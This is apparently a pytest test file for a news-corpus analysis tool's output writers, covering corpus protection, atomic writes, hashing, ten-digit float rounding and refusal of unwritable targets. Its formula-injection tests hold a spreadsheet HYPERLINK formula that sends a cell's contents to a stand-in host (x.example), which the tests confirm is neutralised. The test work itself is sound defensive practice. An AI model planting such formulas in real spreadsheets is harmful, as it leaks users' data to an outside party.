"""The one output guard, atomic write and file hash that every writer uses, and the one CSV
writer: floats to ten significant digits, so that noise in the last digits between library
builds never changes a file."""

from __future__ import annotations

import hashlib

import numpy as np
import pandas as pd
import pytest

from analysis.cli.common import write_table
from analysis.io import (
    SIGNIFICANT_DIGITS,
    OutputError,
    OutputInCorpusError,
    corpus_protect,
    file_sha256,
    float_text,
    output_check,
    output_writable,
    table_to_csv,
    write_atomic,
)
from analysis.output import figures as figures
from analysis.output import table_save
from analysis.paths import CORPUS_DIR


def test_the_bundled_corpus_is_always_refused():
    with pytest.raises(OutputInCorpusError) as caught:
        write_atomic(CORPUS_DIR / "frames.toml", b"x")
    assert str(caught.value) == (
        f"the output file {CORPUS_DIR / 'frames.toml'} lies inside the corpus folder "
        f"{CORPUS_DIR}; nothing may be written into the corpus. Choose another output file.")
    assert not (CORPUS_DIR / "frames.toml").exists()
    with pytest.raises(OutputInCorpusError, match="output folder .* lies inside"):
        output_check(CORPUS_DIR / "sub" / "deeper")


def test_a_named_corpus_folder_and_corpus_file_are_refused(tmp_path):
    folder = tmp_path / "mine"
    folder.mkdir()
    table = tmp_path / "articles.csv"
    table.write_text("text\nHallo.\n", encoding="utf-8")
    assert output_check(tmp_path / "out.csv", folder, table) == tmp_path / "out.csv"
    with pytest.raises(OutputInCorpusError, match="lies inside the corpus folder"):
        output_check(folder / "out.csv", folder)
    with pytest.raises(OutputInCorpusError, match="is the corpus"):
        output_check(table, table)
    # A file corpus protects only itself: its folder may hold outputs.
    assert output_check(tmp_path / "counts.csv", table) == tmp_path / "counts.csv"


def test_a_protected_corpus_is_refused_by_every_write_within_the_block(tmp_path):
    folder = tmp_path / "mine"
    folder.mkdir()
    with corpus_protect(folder, None):
        with pytest.raises(OutputInCorpusError):
            write_atomic(folder / "matches.csv", b"x")
        with pytest.raises(OutputInCorpusError):  # a link into the corpus resolves into it
            (tmp_path / "link").symlink_to(folder)
            write_atomic(tmp_path / "link" / "m.csv", b"x")
    assert list(folder.iterdir()) == []
    assert write_atomic(folder / "after.csv", b"x").read_bytes() == b"x"


def test_file_sha256_is_the_digest_of_the_bytes(tmp_path):
    data = b"NAVO-Rusland\n" * 200_000  # larger than one read chunk
    path = write_atomic(tmp_path / "a.txt", data)
    assert file_sha256(path) == hashlib.sha256(data).hexdigest()
    assert file_sha256(write_atomic(tmp_path / "abc", b"abc")) == (
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")


# --------------------------------------------------------------------------- CSV

# The same G2 from two builds of numpy: equal to 16 significant digits, not in the 17th.
NOISY = (-0.23180924700314517, -0.2318092470031452)


def keyness(value: float) -> pd.DataFrame:
    return pd.DataFrame({"term": ["sancties", "oorlog"], "count": [3, 1],
                         "G2": [value, 12.0], "p": [np.nan, 1 / 3]})


EXPECTED = b"term,count,G2,p\nsancties,3,-0.231809247,\noorlog,1,12.0,0.3333333333\n"


def test_table_save_writes_ten_significant_digits(tmp_path, monkeypatch):
    monkeypatch.setattr(figures, "_CONTEXT", figures._Context())
    written = [table_save(keyness(v), f"k{i}", out_dir=tmp_path).read_bytes()
               for i, v in enumerate(NOISY)]
    assert written == [EXPECTED, EXPECTED]


def test_command_line_tables_write_ten_significant_digits(tmp_path, capsys):
    for i, value in enumerate(NOISY):
        write_table(keyness(value), str(tmp_path / f"k{i}.csv"))
        assert (tmp_path / f"k{i}.csv").read_bytes() == EXPECTED


@pytest.mark.parametrize(("value", "text"), [
    (0.0, "0.0"), (-0.0, "-0.0"), (1.0, "1.0"), (1234567890123.0, "1234567890000.0"),
    (0.1 + 0.2, "0.3"), (2 / 3, "0.6666666667"), (-1 / 3, "-0.3333333333"),
    (123.45678901234, "123.456789"), (1e-12 / 3, "3.333333333e-13"), (float("nan"), "nan"),
    (np.float32(1 / 3), "0.3333333433"), (np.float64(14.000000000000002), "14.0"),
])
def test_float_text(value, text):
    assert float_text(value) == text
    assert SIGNIFICANT_DIGITS == 10


def test_floats_in_mixed_and_nullable_columns_are_rounded_too():
    table = pd.DataFrame({
        "mixed": pd.Series(["a", 2 / 3, None, 7], dtype=object),
        "nullable": pd.array([1 / 3, None, 2.5, 1], dtype="Float64"),
        "whole": [1, 2, 3, 4],
    })
    assert table_to_csv(table) == (b"mixed,nullable,whole\na,0.3333333333,1\n"
                                   b"0.6666666667,,2\n,2.5,3\n7,1.0,4\n")


def test_the_index_is_written_only_when_asked():
    table = pd.DataFrame({"x": [1 / 3]}, index=pd.Index(["NRC"], name="outlet"))
    assert table_to_csv(table) == b"x\n0.3333333333\n"
    assert table_to_csv(table, index=True) == b"outlet,x\nNRC,0.3333333333\n"
    assert table.loc["NRC", "x"] == 1 / 3  # the table itself keeps every digit


# --------------------------------------------------------------------------- formula injection

HOSTILE = pd.DataFrame({
    "outlet": pd.Categorical(['=HYPERLINK("http://x.example/?q="&A1,"NOS")', "NRC"]),
    "title": pd.array(["+31 20 123", "@bestuur"], dtype="string"),
    "text": ["-5 graden en sneeuw", "\tingesprongen"],
    "=count": [1, -2],
    "polarity": [-0.5, 0.25],
})


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
    assert table_to_csv(HOSTILE).decode("utf-8").splitlines() == [
        "outlet,title,text,'=count,polarity",
        '"\'=HYPERLINK(""http://x.example/?q=""&A1,""NOS"")",\'+31 20 123,'
        "'-5 graden en sneeuw,1,-0.5",
        "NRC,'@bestuur,'\tingesprongen,-2,0.25",
    ]
    assert HOSTILE["outlet"][0].startswith("=")  # the table itself is exact


def test_command_line_tables_are_neutralised_as_csv_and_exact_as_parquet(tmp_path, capsys):
    write_table(HOSTILE, str(tmp_path / "t.csv"))
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["outlet"].tolist()[0] == '\'=HYPERLINK("http://x.example/?q="&A1,"NOS")'
    assert back["title"].tolist() == ["'+31 20 123", "'@bestuur"]
    write_table(HOSTILE, str(tmp_path / "t.parquet"))
    exact = pd.read_parquet(tmp_path / "t.parquet")
    assert exact["outlet"].astype(str).tolist() == HOSTILE["outlet"].astype(str).tolist()
    assert exact["text"].tolist() == HOSTILE["text"].tolist()
    assert exact["=count"].tolist() == [1, -2]


def test_notebook_tables_are_neutralised(tmp_path, monkeypatch):
    monkeypatch.setattr(figures, "_CONTEXT", figures._Context())
    written = table_save(HOSTILE[["outlet", "text"]], "t", out_dir=tmp_path).read_text("utf-8")
    assert "\n\"'=HYPERLINK" in written and ",'-5 graden" in written


# --------------------------------------------------------------------------- unwritable outputs


def test_a_folder_given_for_a_file_is_refused(tmp_path):
    with pytest.raises(OutputError) as caught:
        write_atomic(tmp_path, b"x")
    assert str(caught.value) == (f"the output file {tmp_path} is a folder. Give a file name, "
                                 f"e.g. {tmp_path / 'table.csv'}.")


def test_a_file_given_for_a_folder_is_refused(tmp_path):
    (tmp_path / "figures").write_text("notities")
    with pytest.raises(OutputError) as caught:
        output_writable(tmp_path / "figures", folder=True)
    assert str(caught.value) == (f"the output folder {tmp_path / 'figures'} is a file. Give a "
                                 "folder for the figures and tables (it is made when missing).")
    assert (tmp_path / "figures").read_text() == "notities"


def test_a_read_only_folder_is_named_with_the_file(read_only_folder):
    target = read_only_folder / "freq.csv"
    with pytest.raises(OutputError) as caught:
        write_atomic(target, b"x")
    assert str(caught.value) == (f"cannot write {target}: permission denied. Choose a folder "
                                 "you may write to.")
    assert not target.exists()


def test_an_existing_output_that_is_not_a_regular_file_is_refused(tmp_path, capsys):
    """A named pipe or a device given as the output is never replaced by a regular file:
    every writer (write_atomic) and every command's output check refuse it."""
    import os
    import stat

    from analysis.cli import main

    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    message = (rf"cannot write {fifo}: it is a named pipe \(FIFO\), not a regular file; "
               r"only a regular file is ever replaced\. Give the name of a new or regular file")
    for write in (lambda: output_writable(fifo), lambda: write_atomic(fifo, b"x")):
        with pytest.raises(OutputError, match=message):
            write()
    with pytest.raises(OutputError, match=r"/dev/null: it is a character device"):
        output_writable("/dev/null")
    assert main(["frequencies", str(CORPUS_DIR), "-o", str(fifo)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"discourse frequencies: cannot write {fifo}: it is a named pipe")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
